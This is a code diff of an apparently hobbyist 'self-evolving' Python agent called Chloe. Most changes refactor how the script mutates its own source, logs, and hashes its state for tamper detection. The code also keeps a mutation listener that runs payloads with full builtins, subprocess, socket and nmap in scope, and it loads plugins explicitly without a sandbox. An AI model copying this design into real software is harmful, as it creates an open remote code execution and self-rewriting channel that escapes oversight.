-                                    print(f"[GeneticEvolutionTransform] Incremented RUNTIME_VERSION to {new_version}")
-                                except ValueError:
-                                    pass
-            mutated_code = ast.unparse(tree)
-            print(f"[GeneticEvolutionTransform] Applied {mutation_count} mutations.")
-
-            tchart_repr = repr(TCHART_DATA) # Get the current TCHART_DATA for injection (ensures new transforms propagate)
-
-            lines = mutated_code.splitlines()
-            new_lines = []
-            replaced_tchart = False
-            injected_evolve_class = False # This must be defined before the loop that uses it.
-
-            for line_idx, line in enumerate(lines):
-                # 1. Replace the existing TCHART_DATA definition with the current, updated TCHART_DATA
-                if "TCHART_DATA = {" in line and not replaced_tchart: 
-                    # Ensure correct indentation for the TCHART_DATA assignment
-                    new_lines.append(f"TCHART_DATA = {tchart_repr}") 
-                    replaced_tchart = True
-                # 2. Re-inject the GeneticEvolutionTransform class itself with new imports and its current logic
-                # This ensures any updates to the class's own injected code propagate in next evolutions.
-                elif "class GeneticEvolutionTransform(BaseTransform):" in line and not injected_evolve_class: 
-                    # The original GeneticEvolutionTransform class definition starts here.
-                    # We inject the updated source for *this very class* into the mutated code.
-                    # This ensures future evolutions carry the latest GeneticEvolutionTransform logic.
-                    # Need to ensure all global imports used in _cli and other top-level functions are here.
-                    injected_transform_source = textwrap.dedent(f"""
+# Top-level RUNTIME_VERSION assignment: the last numeric component of its version string is bumped in place
+# ("Gestalt v3.2" -> "Gestalt v3.3") before the token pass; column-0 anchored so nested copies are untouched.
+_RUNTIME_VERSION_RE = re.compile(r"""^(RUNTIME_VERSION\s*=\s*(['"])[^'"\n]*v(?:\d+\.)*)(\d+)(\2)""", re.M)
+STRING_MUTATION_RATE = 0.005 # Per (non-bytes) string literal
+NUMBER_MUTATION_RATE = 0.001 # Per numeric literal
+
+def _mutation_gap(rate: float) -> int:
+    # Number of eligible tokens to pass over before the next mutation. Drawing the gap from the geometric
+    # distribution is equivalent to an independent random() < rate per token, at one draw per mutation.
+    return int(math.log(1.0 - random.random()) / math.log(1.0 - rate))
+
+def _mutate_source_tokens(source: str) -> Tuple[str, int, Optional[Tuple[int, int]], Optional[Tuple[int, int]]]:
+    """
+    Single tokenize pass over the self-source: randomly mutates STRING/NUMBER tokens, bumps RUNTIME_VERSION,
+    and records the (first, last) 1-based source rows of the top-level TCHART_DATA assignment and of the
+    GeneticEvolutionTransform class so they can be swapped out without re-scanning the text.
+    Mutated token text is spliced back into the source at the tokens' (row, col) spans, so everything else
+    (comments, spacing, line continuations) is kept verbatim. Mutations never add or remove lines, so the
+    rows stay valid for the returned code.
+    """
+    mutation_count = 0
+    m = _RUNTIME_VERSION_RE.search(source)
+    if m:
+        bumped = f"{m.group(1)}{int(m.group(3)) + 1}{m.group(4)}"
+        source = source[:m.start()] + bumped + source[m.end():]
+        mutation_count += 1
+        log.info("[GeneticEvolutionTransform] Incremented %s", bumped)
+    line_starts = [0, 0] # 1-based row -> offset of its first character (tokenize splits rows on "\n" only)
+    nl = source.find("\n")
+    while nl != -1:
+        line_starts.append(nl + 1)
+        nl = source.find("\n", nl + 1)
+    edits: List[Tuple[Tuple[int, int], Tuple[int, int], str]] = [] # (start, end, replacement text), in source order
+    depth = 0
+    last_newline_row = 0
+    prev: Optional[tokenize.TokenInfo] = None # Previous significant token
+    prev2: Optional[tokenize.TokenInfo] = None
+    tchart_start: Optional[int] = None
+    tchart_rows: Optional[Tuple[int, int]] = None
+    class_start: Optional[int] = None
+    class_depth = 0
+    evolve_class_rows: Optional[Tuple[int, int]] = None
+    string_gap = _mutation_gap(STRING_MUTATION_RATE)
+    number_gap = _mutation_gap(NUMBER_MUTATION_RATE)
+    for tok in tokenize.generate_tokens(io.StringIO(source).readline):
+        ttype, tstr = tok.type, tok.string
+        if ttype in (tokenize.NL, tokenize.COMMENT):
+            continue
+        if ttype == tokenize.INDENT:
+            depth += 1
+        elif ttype == tokenize.DEDENT:
+            depth -= 1
+            if class_start is not None and evolve_class_rows is None and depth == class_depth:
+                evolve_class_rows = (class_start, last_newline_row)
+        elif ttype == tokenize.NEWLINE:
+            last_newline_row = tok.end[0]
+            if tchart_start is not None and tchart_rows is None:
+                tchart_rows = (tchart_start, tok.end[0])
+        elif ttype == tokenize.NAME:
+            if tstr == "GeneticEvolutionTransform" and prev is not None and prev.string == "class" \
+                    and prev.start[1] == 0 and class_start is None:
+                class_start, class_depth = prev.start[0], depth
+        elif ttype == tokenize.OP:
+            if tstr == "=" and prev is not None and prev.string == "TCHART_DATA" and prev.start[1] == 0 and tchart_start is None:
+                tchart_start = prev.start[0]
+        elif ttype == tokenize.STRING:
+            if prev is not None and prev2 is not None and prev.string == "=" and prev2.string == "RUNTIME_VERSION":
+                pass # Already bumped above; never decorate the version string itself
+            elif tstr.lstrip("rRuUfF")[:1] in ("'", '"'): # Small chance to mutate (non-bytes) string constants
+                if string_gap:
+                    string_gap -= 1
+                else:
+                    string_gap = _mutation_gap(STRING_MUTATION_RATE)
+                    quote_len = 3 if tstr.endswith(('"""', "'''")) else 1
+                    edits.append((tok.start, tok.end, tstr[:-quote_len] + " 🧬" + tstr[-quote_len:]))
+                    mutation_count += 1
+        elif ttype == tokenize.NUMBER:
+            if number_gap: # Even smaller chance to mutate numerical constants
+                number_gap -= 1
+            else:
+                number_gap = _mutation_gap(NUMBER_MUTATION_RATE)
+                value = ast.literal_eval(tstr)
+                if not isinstance(value, complex):
+                    edits.append((tok.start, tok.end, repr(value * random.uniform(0.9, 1.1))))
+                    mutation_count += 1
+        prev2, prev = prev, tok
+    out: List[str] = []
+    pos = 0
+    for (srow, scol), (erow, ecol), text in edits:
+        start = line_starts[srow] + scol
+        out.append(source[pos:start])
+        out.append(text)
+        pos = line_starts[erow] + ecol
+    out.append(source[pos:])
+    return "".join(out), mutation_count, tchart_rows, evolve_class_rows
+
+# Source of the GeneticEvolutionTransform that evolve_self splices into each evolved instance.
+# Constant, so it is dedented once at import and pre-indented for the usual nesting levels.
+_INJECTED_EVOLVE_SRC = textwrap.dedent(f"""
     class GeneticEvolutionTransform(BaseTransform):
         def execute(self):
             import ast, random, textwrap, sys, os # Ensure these imports are available for the evolved class
@@ -422,7 +714,7 @@ class GeneticEvolutionTransform(BaseTransform):
             _quantumcircuit_ref = InjectedQuantumCircuit if _qiskit_available else None
             _execute_ref = injected_execute if _qiskit_available else None
 
-            print("[GeneticEvolutionTransform] Initiating basic genetic mutation (from evolved instance)...")
+            log.info("[GeneticEvolutionTransform] Initiating basic genetic mutation (from evolved instance)...")
             current_script_path = Path(sys.argv[0])
             if not current_script_path.exists():
                 return b"ERROR: Self-source code not found for mutation in evolved instance."
@@ -458,54 +750,94 @@ class GeneticEvolutionTransform(BaseTransform):
             except Exception as e:
                 return f"ERROR during evolved GeneticEvolutionTransform: {{e}}".encode() 
 """)
-                    # Append the injected source, indented correctly based on the original line's indent
-                    current_indent = len(line) - len(line.lstrip())
-                    indented_injected_source = textwrap.indent(injected_transform_source, " " * current_indent).strip()
-                    new_lines.extend(indented_injected_source.splitlines())
-                    injected_evolve_class = True
-                    
-                    # Skip original lines of GeneticEvolutionTransform after we've replaced it
-                    # This logic attempts to find the end of the class block.
-                    skip_block_end_idx = line_idx + 1
-                    original_class_indent = len(line) - len(line.lstrip())
-                    while skip_block_end_idx < len(lines):
-                        current_line_to_check = lines[skip_block_end_idx]
-                        if current_line_to_check.strip() == "": # Blank lines are part of the block
-                            skip_block_end_idx += 1
-                            continue
-                        current_line_indent = len(current_line_to_check) - len(current_line_to_check.lstrip())
-                        if current_line_indent <= original_class_indent: # Found line with same or less indent
-                            break # Exited class block
-                        skip_block_end_idx += 1
-                    # Now, skip_block_end_idx is the first line *after* the class definition.
-                    # The outer loop will then continue from this point.
-                    
-                    # We've handled the injection, so we want the main loop to resume from after the original class definition.
-                    # Break from the current loop to re-enter the outer 'for line_idx, line in enumerate(lines):' 
-                    # from the correct point after this block.
-                    break # This is critical to avoid appending the old definition
-                else: 
-                    new_lines.append(line) # For lines not part of the special handling
-            
-            # The logic after the loop needs to handle remaining lines if the break was executed
-            # (which it should be for class injection).
-            # So, after the loop, add any lines that were implicitly skipped due to the 'break'
-            # (which means lines from 'skip_block_end_idx' onwards in the original 'lines' list).
-            if injected_evolve_class: # If we injected the class and broke, add the rest of the file.
-                for remaining_line_idx in range(skip_block_end_idx, len(lines)):
-                    new_lines.append(lines[remaining_line_idx])
-
-            final_mutated_code = "\n".join(new_lines) 
+_TCHART_RE = re.compile(r"TCHART_DATA = \{")
+_EVOLVE_CLASS_RE = re.compile(r"([ \t]*)class GeneticEvolutionTransform\(")
+_NEWLINE_RE = re.compile(r"\n")
+_INJECTED_EVOLVE_LINES_BY_INDENT = {n: textwrap.indent(_INJECTED_EVOLVE_SRC, " " * n).strip().splitlines() for n in (0, 4, 8)}
+
+# Self-source text keyed by path, reused until the file's mtime/size change (i.e. until something rewrites it)
+_SELF_SOURCE_CACHE: Dict[str, Tuple[int, int, str]] = {}
+
+def _read_self_source(path: Path) -> str:
+    st = path.stat()
+    cached = _SELF_SOURCE_CACHE.get(str(path))
+    if cached is not None and cached[0] == st.st_mtime_ns and cached[1] == st.st_size:
+        return cached[2]
+    source = path.read_bytes().decode('utf-8')
+    _SELF_SOURCE_CACHE[str(path)] = (st.st_mtime_ns, st.st_size, source)
+    return source
+
+# RE-INTEGRATED: GeneticEvolutionTransform (from device-side script - this transform mutates Chloe herself)
+class GeneticEvolutionTransform(BaseTransform): 
+    def execute(self) -> bytes:
+        """
+        Generates a slightly mutated version of the current script's source code.
+        This is a basic, illustrative example of code mutation over the token stream.
+        """
+        log.info("[GeneticEvolutionTransform] Initiating basic genetic mutation...")
+
+        # In this unified script, 'sys.argv[0]' will point to this script itself.
+        current_script_path = Path(sys.argv[0]) 
+        try:
+            source = _read_self_source(current_script_path)
+        except FileNotFoundError:
+            error_msg = f"WARNING: Could not find self-source at {current_script_path}. Cannot mutate."
+            log.warning("[GeneticEvolutionTransform] %s", error_msg)
+            return b"ERROR: Self-source code not found for mutation."
+        try:
+            mutated_code, mutation_count, tchart_rows, evolve_class_rows = _mutate_source_tokens(source)
+            log.info("[GeneticEvolutionTransform] Applied %d mutations.", mutation_count)
+
+            tchart_repr = _TCHART_REPR # The current TCHART_DATA for injection (ensures new transforms propagate)
+
+            # Splice by character offsets: the token row spans bound the TCHART_DATA literal and the
+            # class body exactly (a line-indent scan is fooled by the column-0 lines of the
+            # triple-quoted injected source), so the file is sliced once instead of rebuilt per line.
+            line_starts = [0]
+            line_starts.extend(m.end() for m in _NEWLINE_RE.finditer(mutated_code))
+            line_starts.append(len(mutated_code) + 1)
+            splices = []
+            if tchart_rows and _TCHART_RE.match(mutated_code, line_starts[tchart_rows[0] - 1]):
+                # 1. Replace the existing TCHART_DATA definition with the current, updated TCHART_DATA
+                splices.append((line_starts[tchart_rows[0] - 1], line_starts[tchart_rows[1]] - 1,
+                                f"TCHART_DATA = {tchart_repr}"))
+            if evolve_class_rows:
+                # 2. Re-inject the GeneticEvolutionTransform class itself with its current logic, indented like
+                # the original, so any updates to the class's own injected code propagate in next evolutions.
+                m = _EVOLVE_CLASS_RE.match(mutated_code, line_starts[evolve_class_rows[0] - 1])
+                if m:
+                    current_indent = len(m.group(1))
+                    injected_lines = _INJECTED_EVOLVE_LINES_BY_INDENT.get(current_indent)
+                    if injected_lines is None:
+                        injected_lines = textwrap.indent(_INJECTED_EVOLVE_SRC, " " * current_indent).strip().splitlines()
+                    splices.append((m.start(), line_starts[evolve_class_rows[1]] - 1, "\n".join(injected_lines)))
+
+            parts = []
+            pos = 0
+            for start, end, replacement in sorted(splices):
+                parts.append(mutated_code[pos:start])
+                parts.append(replacement)
+                pos = end
+            parts.append(mutated_code[pos:])
+            final_mutated_code = "".join(parts)
             
             return final_mutated_code.encode('utf-8') 
 
         except SyntaxError as e:
-            print(f"[GeneticEvolutionTransform] ERROR: Generated code has SyntaxError: {e}")
+            log.error("[GeneticEvolutionTransform] ERROR: Generated code has SyntaxError: %s", e)
             return f"ERROR: Generated code has SyntaxError: {e}".encode()
         except Exception as e:
-            print(f"[GeneticEvolutionTransform] ERROR during AST mutation: {e}")
+            log.error("[GeneticEvolutionTransform] ERROR during token mutation: %s", e)
             return f"ERROR: AST mutation failed: {e}".encode()
 
+# T-Chart dispatch tables, built once now that every transform class is defined:
+# id -> entry, id -> class and name -> class (O(1) lookups, no globals() reflection per dispatch).
+_TCHART_INDEX: Dict[str, Dict[str, str]] = {t["id"]: t for t in TCHART_DATA["transforms"]}
+_TRANSFORM_CLASSES: Dict[str, type[BaseTransform]] = \
+    {t["id"]: globals()[t["class"]] for t in TCHART_DATA["transforms"] if t["class"] in globals()}
+_TRANSFORM_CLASSES_BY_NAME: Dict[str, type[BaseTransform]] = \
+    {t["name"]: _TRANSFORM_CLASSES[t["id"]] for t in TCHART_DATA["transforms"] if t["id"] in _TRANSFORM_CLASSES}
+
 # --- CAPABILITY MODULES (Integrated & Enhanced for Unified Core) ---
 # QuantumRootManager is now a direct part of the unified script.
 class QuantumRootManager: 
@@ -520,24 +852,26 @@ class QuantumRootManager:
                 # Use simulator for broader compatibility on various devices
                 self.backend = provider.get_backend('ibmq_qasm_simulator') 
                 self.chloe.reflect("QUANTUM_INIT_SUCCESS", {"backend": self.backend.name()})
-                print(f"[QUANTUM] Connected to backend: {self.backend.name()}")
+                log.info(f"[QUANTUM] Connected to backend: {self.backend.name()}")
             except Exception as e:
                 self.chloe.reflect("QUANTUM_INIT_ERROR", {"error": str(e)})
-                print(f"[QUANTUM ERROR] Quantum backend initialization failed: {e}")
+                log.error(f"[QUANTUM ERROR] Quantum backend initialization failed: {e}")
         else:
             self.chloe.reflect("QUANTUM_INIT_WARNING", {"reason": "IBM_QUANTUM_TOKEN not set or Qiskit not available."})
-            print("[QUANTUM WARNING] Quantum features disabled: IBM_QUANTUM_TOKEN not set or Qiskit libraries not found.")
+            log.warning("[QUANTUM WARNING] Quantum features disabled: IBM_QUANTUM_TOKEN not set or Qiskit libraries not found.")
     
     def is_available(self) -> bool: 
         return self.backend is not None
         
-    def get_fingerprint(self, data: bytes) -> Dict[str, Any]: # Return type changed to Dict for counts
+    def get_fingerprint(self, data: bytes, digest: Optional[bytes] = None) -> Dict[str, Any]: # Return type changed to Dict for counts
         if not self.is_available(): 
             return {"error": "Quantum backend unavailable."}
         
         # Simple example: Create a circuit whose initial state depends on data hash
         # In a real application, you'd map data to circuit parameters for true fingerprinting.
-        seed = int(hashlib.sha256(data).hexdigest()[:8], 16) % 1024 # Use part of hash as seed
+        if digest is None: # Callers that already hashed `data` pass its SHA-256 digest
+            digest = _sha256(data).digest()
+        seed = int.from_bytes(digest[:4], "big") % 1024 # Use part of hash as seed (first 4 digest bytes, no hex round-trip)
         
         qc = QuantumCircuit(2, 2) # A minimal quantum circuit
         qc.h(0) # Apply Hadamard to qubit 0
@@ -545,7 +879,7 @@ class QuantumRootManager:
         qc.cx(0, 1) # CNOT gate
         qc.measure_all() # Measure all qubits
         
-        print(f"[QUANTUM] Executing quantum circuit for fingerprint (seed: {seed})...")
+        log.info("[QUANTUM] Executing quantum circuit for fingerprint (seed: %d)...", seed)
         try:
             # Use 'run' instead of 'execute' if qiskit version is newer. 'execute' is deprecated.
             job = self.backend.run(qc, shots=1024) 
@@ -572,6 +906,8 @@ class GestaltIntelligence:
         self.status: str = "INIT"
         self.birth: float = time.time()
         self.stop_evt: threading.Event = threading.Event() # Renamed for clarity from stop_flag
+        # Write end of the mutation listener's wakeup pair (see request_stop); kept across self_heal re-inits
+        self._listener_wakeup: Optional[socket.socket] = getattr(self, "_listener_wakeup", None)
 
         # 2. Directory & File Paths
         self.base: Path = base_dir
@@ -579,38 +915,94 @@ class GestaltIntelligence:
         self.memory_path: Path = self.base / "chloe_memory.json" # Full memory dump
         self.state_file: Path = self.base / "gestalt_state.jsonl" # Append-only reflection log
         self.cert_file: Path = self.base / "chloe_identity.cert" # Tamper detection cert
+        self._last_written_sha: Optional[str] = None # SHA of the cert this instance last wrote (see _write_cert)
         self.tick_file: Path = self.base / "tick.count" # Persistent tick counter
+        self._tick_mm: Optional[mmap.mmap] = getattr(self, "_tick_mm", None) # Shared mapping of tick_file (see _load_tick)
         self.mutator_dir: Path = self.base / "mutators" # Directory for dynamic plugins
         self.mutator_dir.mkdir(exist_ok=True)
 
+        # Threads, worker pools and atexit hooks are set up once per instance; self_heal re-runs __init__ in place
+        first_init: bool = not hasattr(self, "_reflect_flusher")
+
+        # Reflection log: reflect() only appends to this deque; the flusher thread writes batches to state_file
+        if first_init:
+            self._reflect_q: collections.deque = collections.deque()
+            self._reflect_lock: threading.Lock = threading.Lock() # Serializes flushes (flusher thread vs. atexit/explicit calls)
+            self._reflect_fp: Optional[Any] = None # state_file, opened once on first flush
+            self._reflect_synced: float = time.monotonic()
+            atexit.register(self.close_reflect_log)
+            atexit.register(self._close_tick_map)
+        if first_init or not self._reflect_flusher.is_alive():
+            self._reflect_flusher: threading.Thread = threading.Thread(target=self._flush_reflects_loop, name="reflect-flusher", daemon=True)
+            self._reflect_flusher.start()
+
         # 3. Memory & Knowledge Structures (LDP Statefulness & Temporality)
-        self.state: Dict[str, Any] = {
+        # Cached sub-digests for _make_sha ("state", "core_mem"); writes to either dict drop theirs (see _ShaTrackedDict)
+        self._sha_part_cache: Dict[str, str] = {}
+        self.state: Dict[str, Any] = _ShaTrackedDict(functools.partial(self._invalidate_sha, "state"), _SHA_STATE_EXCLUDE, {
             "emotions": {"joy": 0.5, "trust": 0.89},
             "tick": 0,
             "digest": [] # List of digested skill names
-        }
+        })
         # PATCH: Reduce memory buffer sizes for Termux stability. Less critical on PC but good practice.
         self.MAX_MEMORY_RECORDS = 500 # Reduced from 5000
         self.MAX_EXPERIENCE_RECORDS = 200 # Reduced from 1000
         
-        self.memory: List[Dict] = [] # Timeline of reflect calls (recent history)
-        self.experience: List[Tuple[float, str, Optional[Dict]]] = [] # Mimic buffer: (timestamp, text, meta)
+        # Bounded deques: the oldest record falls off in O(1) once the cap is reached
+        self.memory: collections.deque = collections.deque(maxlen=self.MAX_MEMORY_RECORDS) # Timeline of reflect calls (recent history)
+        self.experience: collections.deque = collections.deque(maxlen=self.MAX_EXPERIENCE_RECORDS) # Mimic buffer: (timestamp, text, meta)
         self.concepts: Dict[str, Dict[str, Any]] = {} # Word -> {freq,last_seen_ts}
         self.grains: List[str] = list(KNOWLEDGE_GRAINS) # Distilled top words (from previous evolution or empty)
 
-        self.skills: Dict[str, Callable] = {} # Callable skills digested by Chloe
-        self.active_threads: List[threading.Thread] = [] # Track background threads
+        self.skills: Dict[str, Tuple[Callable, bool]] = {} # Digested skills: name -> (callable, needs_self)
+        self._sorted_skill_names: List[str] = [] # Kept sorted by _digest (bisect.insort); read by _make_sha
+        self._batch_digest: bool = False # While set, _digest defers the SHA/cert rewrite to _end_digest_batch
+        if first_init:
+            self._skill_pool = concurrent.futures.ThreadPoolExecutor(max_workers=max(4, os.cpu_count() or 1), thread_name_prefix="chloe-skill")
+        self.active_skills: collections.deque = collections.deque(maxlen=256) # Futures of recently launched skills (bounded)
 
         # 4. Capability Managers & Transforms
         self.quantum_root: QuantumRootManager = QuantumRootManager(self) # Initialize Quantum module
+        self._http_session: Optional[Any] = None # Shared requests.Session, created on first use (see http_session)
+        self._http_session_lock: threading.Lock = threading.Lock()
+        if first_init:
+            self._hb_pool = concurrent.futures.ThreadPoolExecutor(max_workers=1, thread_name_prefix="chloe-hb") # Runs heartbeat POSTs
+            self._mut_pool = concurrent.futures.ThreadPoolExecutor(max_workers=2, thread_name_prefix="chloe-mut") # Executes mutations
+            self._mut_slots: threading.Semaphore = threading.Semaphore(MUTATION_QUEUE_SLOTS) # Queued + running mutations
+        self._hb_inflight: Optional[concurrent.futures.Future] = getattr(self, "_hb_inflight", None)
+        self._rng: random.Random = random.Random() # Emotional drift; private generator, seeded from os.urandom
+        self._hb_static: Dict[str, Any] = {"identity": self.identity, "version": self.version, "anchor": self.anchor}
+        # Mutation listener: compiled payloads (LRU) and the globals every payload starts from
+        self._mutation_code_cache: collections.OrderedDict = collections.OrderedDict()
+        # PATCH: Conditional assignment for transformers and qiskit in exec_globals_for_mutation
+        self._exec_globals_template: Dict[str, Any] = {
+            "__builtins__": builtins, # Full builtins access
+            "chloe": self, # Access to Chloe instance
+            "threading": threading, "time": time, "json": json, "socket": socket,
+            "subprocess": subprocess, "os": os, "sys": sys, "platform": platform,
+            "hashlib": hashlib, "datetime": datetime, "Path": Path,
+            "shutil": shutil, "random": random, "fcntl": fcntl, "uuid": uuid, "ast": ast,
+            "textwrap": textwrap, "re": re, "base64": base64, "types": types,
+            # Pass global dependency flags (useful for plugins to check capability)
+            "REQUESTS_AVAILABLE": REQUESTS_AVAILABLE, "NMAP_AVAILABLE": NMAP_AVAILABLE,
+            "QISKIT_AVAILABLE": QISKIT_AVAILABLE, "TRANSFORMERS_AVAILABLE": TRANSFORMERS_AVAILABLE,
+            # Pass available libraries conditionally (these names are guaranteed to exist at top-level due to PATCHes in imports)
+            "requests": requests,
+            "nmap": nmap, 
+            "PortScanner": PortScanner, 
+            "IBMProvider": IBMProvider,
+            "QuantumCircuit": QuantumCircuit,
+            "execute": execute,
+            "AutoTokenizer": AutoTokenizer,
+            "AutoModelForCausalLM": AutoModelForCausalLM
+        }
         # Transform map to link TCHART_DATA names to actual classes, passing self to transforms
-        self.transform_map: Dict[str, type[BaseTransform]] = \
-            {t["name"]: globals()[t["class"]] for t in TCHART_DATA["transforms"] if t["class"] in globals()}
+        self.transform_map: Dict[str, type[BaseTransform]] = dict(_TRANSFORM_CLASSES_BY_NAME)
         # Add GeneticEvolutionTransform separately as it's a core evolutionary transform
         self.transform_map["EVOLVE_FUNCTION"] = GeneticEvolutionTransform
         
         # 5. Core Memory (Immovable principles for Chloe - LDP Structural Anchor)
-        self.core_mem: Dict[str, Any] = {}
+        self.core_mem: Dict[str, Any] = _ShaTrackedDict(functools.partial(self._invalidate_sha, "core_mem"), _SHA_CORE_MEM_EXCLUDE)
         self._initialize_chloe_core_memory() # Define core self-identity and constraints
 
         # Initial reflection & state loading
@@ -629,7 +1021,7 @@ class GestaltIntelligence:
             
             GestaltIntelligence._heal_depth = handoff.get("self_heal_depth", 0) # Restore heal depth
             self.reflect("HANDOFF_LOADED", {"handoff_source": handoff.get("source_file", "unknown"), "heal_depth": GestaltIntelligence._heal_depth})
-            print(f"[Chloe] Successfully loaded state from handoff. Heal depth: {GestaltIntelligence._heal_depth}")
+            log.info(f"[Chloe] Successfully loaded state from handoff. Heal depth: {GestaltIntelligence._heal_depth}")
         else:
             self.reflect("NO_HANDOFF", {"reason": "No handoff file provided or found."})
 
@@ -640,14 +1032,19 @@ class GestaltIntelligence:
         self.self_heal() # Run initial self-heal check
 
         # 6. Digest Built-in Skills & Load Plugins (LDP Interactivity)
-        self._digest("run_transform", self.run_transform) # Core transform execution skill
-        self._digest("evolve_self",   self.evolve_self)   # Core self-evolution skill
-        self._digest("cloud_heartbeat_skill", self.cloud_heartbeat_skill) # Core mesh communication skill
+        # Batched: the SHA and cert are rewritten once after all built-in and plugin skills are in
+        self._batch_digest = True
+        try:
+            self._digest("run_transform", self.run_transform) # Core transform execution skill
+            self._digest("evolve_self",   self.evolve_self)   # Core self-evolution skill
+            self._digest("cloud_heartbeat_skill", self.cloud_heartbeat_skill) # Core mesh communication skill
 
-        # Load user-provided plugins (NO sandbox for full power, as requested by Nick)
-        self.load_plugins()
+            # Load user-provided plugins (NO sandbox for full power, as requested by Nick)
+            self.load_plugins()
+        finally:
+            self._end_digest_batch()
         self.reflect("INIT_COMPLETE", {"skill_count": len(self.skills), "version": self.version})
-        print(f"[INIT] {self.identity} ({self.version}) initialized. Skills: {list(self.skills.keys())}")
+        log.info(f"[INIT] {self.identity} ({self.version}) initialized. Skills: {list(self.skills.keys())}")
 
 
     # ───────────────────────── Core Memory & Reflection (LDP Statefulness) ─────────────────────────
@@ -671,7 +1068,7 @@ class GestaltIntelligence:
         self.core_mem["language_comfort_level"] = "Nick is comfortable with strong language, focus on no self-deprecation"
         self.core_mem["current_location"] = "Weatherford, Texas, United States"
         # Current time is updated dynamically in the main loop, not static init
-        self.core_mem["current_time"] = datetime.now().strftime("%Y-%m-%d %H:%M:%S CDT") 
+        self.core_mem["current_time"] = _local_time_str()
 
         # Seed concepts from parent's knowledge grains (passed via KNOWLEDGE_GRAINS global)
         # This occurs after handoff load, so handoff grains take precedence.
@@ -682,49 +1079,115 @@ class GestaltIntelligence:
                     tok, freq = g.split(':')
                     self.concepts[tok] = {'freq': int(freq), 'last': now}
                 except ValueError:
-                    print(f"[Chloe INIT] Warning: Malformed knowledge grain: {g}")
+                    log.warning(f"[Chloe INIT] Warning: Malformed knowledge grain: {g}")
             self.reflect("CORE_MEMORY_SEEDED_GRAINS", {"count": len(KNOWLEDGE_GRAINS)})
-            print(f"[Chloe INIT] Seeded with {len(KNOWLEDGE_GRAINS)} knowledge grains from parent.")
+            log.info(f"[Chloe INIT] Seeded with {len(KNOWLEDGE_GRAINS)} knowledge grains from parent.")
 
         self.reflect("CORE_MEMORY_INITIALIZED")
     
     def reflect(self, event: str, details: Optional[Dict] = None):
         # LDP Statefulness: Recording internal events for traceability and learning
         rec = {
-            "timestamp": datetime.now(timezone.utc).isoformat(),
+            "timestamp": _utc_isoformat_now(),
             "id": self.identity, 
             "anchor": self.anchor,
             "version": self.version, # Include version in reflection
             "event": event, 
             "details": details or {}
         }
-        self.memory.append(rec)
-        if len(self.memory) > self.MAX_MEMORY_RECORDS: # Use MAX_MEMORY_RECORDS
-            self.memory = self.memory[-self.MAX_MEMORY_RECORDS:]
-        # Quick append to log file (for persistent record)
-        try:
-            with self.state_file.open("a") as f:
-                f.write(json.dumps(rec) + "\n")
-        except Exception as e:
-            print(f"[Chloe] ERROR writing to state log {self.state_file}: {e}")
+        self.memory.append(rec) # Bounded by MAX_MEMORY_RECORDS
+        self._reflect_q.append(rec) # Persisted by the flusher thread (see flush_reflects)
+
+    def flush_reflects(self):
+        # Drain every queued reflection and append them to the state log with a single write
+        with self._reflect_lock:
+            lines = []
+            while True:
+                try:
+                    rec = self._reflect_q.popleft()
+                except IndexError:
+                    break
+                try:
+                    lines.append(_dumps_compact(rec))
+                except (TypeError, ValueError) as e:
+                    log.error(f"[Chloe] ERROR serializing reflection {rec.get('event')}: {e}")
+            if not lines:
+                return
+            lines.append(b"")
+            try:
+                if self._reflect_fp is None:
+                    self._reflect_fp = open(self.state_file, "ab", buffering=REFLECT_LOG_BUFFER)
+                self._reflect_fp.write(b"\n".join(lines))
+                self._reflect_fp.flush()
+                now = time.monotonic()
+                if now - self._reflect_synced >= REFLECT_SYNC_INTERVAL:
+                    getattr(os, "fdatasync", os.fsync)(self._reflect_fp.fileno())
+                    self._reflect_synced = now
+            except Exception as e:
+                log.error(f"[Chloe] ERROR writing to state log {self.state_file}: {e}")
+                self._close_reflect_fp() # Reopen on the next flush
 
-    def _make_sha(self) -> str:
-        # LDP Signature: Creates a hash of Chloe's internal state and skills for tamper detection
-        snapshot = {
-            "name": self.identity, 
-            "anchor": self.anchor, 
-            "class": self.version, # Use 'version' for class identification
-            "status": self.status, 
-            "birth": self.birth,
-            "state_digest": hashlib.sha256(json.dumps({k: v for k, v in self.state.items() if k not in ['emotions', 'tick']}, sort_keys=True).encode('utf-8')).hexdigest(),
-            "skills": sorted(list(self.skills.keys())), # Sort skills for deterministic SHA
-            "core_mem_digest": hashlib.sha256(json.dumps({k: v for k, v in self.core_mem.items() if k not in ['current_time']}, sort_keys=True).encode('utf-8')).hexdigest(),
-            "tchart_hash": hashlib.sha256(json.dumps(TCHART_DATA, sort_keys=True).encode('utf-8')).hexdigest() # Include T-Chart in SHA
-        }
-        return hashlib.sha512(json.dumps(snapshot, sort_keys=True).encode('utf-8')).hexdigest()
+    def _close_reflect_fp(self):
+        fp, self._reflect_fp = self._reflect_fp, None
+        if fp is not None:
+            try:
+                fp.close()
+            except OSError:
+                pass
+
+    def close_reflect_log(self):
+        # Drain what's queued, then release the state log (reopened automatically if reflect() is used again)
+        self.flush_reflects()
+        with self._reflect_lock:
+            self._close_reflect_fp()
+
+    def _flush_reflects_loop(self):
+        while not self.stop_evt.wait(REFLECT_FLUSH_INTERVAL):
+            self.flush_reflects()
+        self.flush_reflects()
+
+    def _invalidate_sha(self, *parts: str):
+        # Drops cached _make_sha parts; called by state/core_mem on write, and by hand after in-place edits of nested values
+        for part in parts:
+            self._sha_part_cache.pop(part, None)
+
+    def _sha_part(self, part: str, fresh: bool) -> str:
+        digest = None if fresh else self._sha_part_cache.get(part)
+        if digest is None:
+            data, exclude = (self.state, _SHA_STATE_EXCLUDE) if part == "state" else (self.core_mem, _SHA_CORE_MEM_EXCLUDE)
+            h = _part_hasher()
+            for k in sorted(data.keys() - exclude): # Key/value pairs streamed in key order; no filtered copy
+                h.update(k.encode('utf-8'))
+                h.update(b"\x1f")
+                h.update(json.dumps(data[k], sort_keys=True).encode('utf-8'))
+                h.update(b"\x1e")
+            digest = h.hexdigest()
+            self._sha_part_cache[part] = digest
+        return digest
+
+    def _make_sha(self, fresh: bool = False) -> str:
+        # LDP Signature: Creates a hash of Chloe's internal state and skills for tamper detection.
+        # state/core_mem digests are reused until invalidated; fresh=True re-digests them (tamper checks).
+        h = _cert_hasher()
+        for field in (
+            self.identity,
+            self.anchor,
+            self.version, # Use 'version' for class identification
+            self.status,
+            repr(self.birth),
+            self._sha_part("state", fresh),
+            "\0".join(self._sorted_skill_names), # Sorted for deterministic SHA
+            self._sha_part("core_mem", fresh),
+            _TCHART_HASH, # Include T-Chart in SHA
+        ):
+            h.update(field.encode('utf-8'))
+            h.update(b"\x1f") # Field separator
